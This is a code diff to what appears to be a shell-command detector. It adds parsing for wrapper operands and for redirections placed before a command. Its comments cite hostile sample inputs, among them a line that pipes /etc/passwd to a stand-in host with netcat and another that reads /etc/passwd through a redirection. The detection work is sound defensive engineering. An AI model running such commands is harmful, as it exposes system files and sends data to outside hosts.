@@ -273,6 +273,9 @@ _BLANKS_AFTER_CLOSE = (" ", "\t")
 _INTERPRETERS = frozenset({"sh", "bash", "zsh", "ksh", "dash", "python", "python2", "python3", "perl", "ruby", "php"})
 # cmd.exe runs the rest of its line as a command after /c (and stays open after /k; /r is /c's old name).
 _CMD_RUN_FLAGS = frozenset({"/c", "/k", "/r"})
+# A redirection's target that names a file: a path, a name with an extension, a descriptor
+_FILE_TARGET = re.compile(r"[~.]{0,2}/[\w./-]{0,200}|[\w-]{1,64}\.[a-z0-9]{1,5}|&?\d")
+_STRONG_SEPARATORS = frozenset((";", "|", "||", "&&", "$(", "`"))
 # Shell words that open a compound command and are followed by a command: "while true; do id; done"
 # runs id, "if grep -q x f; then cat f; fi" runs grep and cat.
 _COMPOUND_WORDS = frozenset({"do", "then", "else", "elif", "if", "while", "until", "!"})
@@ -446,6 +449,8 @@ def _command_index(words: list[str], redirect: bool = False) -> int:
         if wrapped > i:
             i = wrapped
             continue
+        if vocab.WRAPPER_OPERANDS.get(words[i].lower(), 0):
+            break  # "timeout id", "flock ls" with no operand: the word is the command (or prose)
         following = words[i + 1] if i + 1 < len(words) else ""
         if words[i].lower() in vocab.PREFIX_COMMANDS and (
             not following
@@ -474,8 +479,14 @@ def _wrapped_command(words: list[str], i: int) -> int:
     j = i + 1
     while j < min(len(words), i + 4) and words[j].startswith("-") and len(words[j]) > 1:
         j += 1
-    j += operands
+    for _ in range(operands):  # a duration, a CPU mask, a lock file or a root directory: no word of prose
+        if j >= len(words) or not _WRAPPER_OPERAND.fullmatch(words[j]):
+            return i
+        j += 1
     return j if j < len(words) and _command_name(words[j]) in vocab.KNOWN else i
+
+
+_WRAPPER_OPERAND = re.compile(r"[\d.]{1,12}[smhd]?|0x[\da-f]{1,16}|[\d,-]{1,32}|[~.]{0,2}/[\w./-]{0,200}")
 
 
 def _strong_argument(arg: str) -> bool:
@@ -582,7 +593,16 @@ def _judge(
     words = segment.words
     if segment.leading_targets == len(words):
         return None  # redirections alone run no command: an HTML tag on a line of its own ("\n<head>")
-    index = _command_index(words, segment.redirect)
+    # A redirection before the command names its target first (";<in cat", "; >out cat /etc/passwd"):
+    # read so after a separator that only shell code writes; at the start of a line the same shape is
+    # documentation's angle-bracket placeholders ("<Resource Type> <Property>") or a doctest's ">>>"
+    # (after a line break or "&", only when the targets are files: "x\n</etc/passwd nc evil.example 80")
+    targets = segment.leading_targets
+    if targets and segment.opener not in _STRONG_SEPARATORS and not all(
+        _FILE_TARGET.fullmatch(word) for word in words[:targets]
+    ):
+        return None
+    index = targets + _command_index(words[targets:], segment.redirect)
     if index >= len(words):
         return None
     raw = words[index]
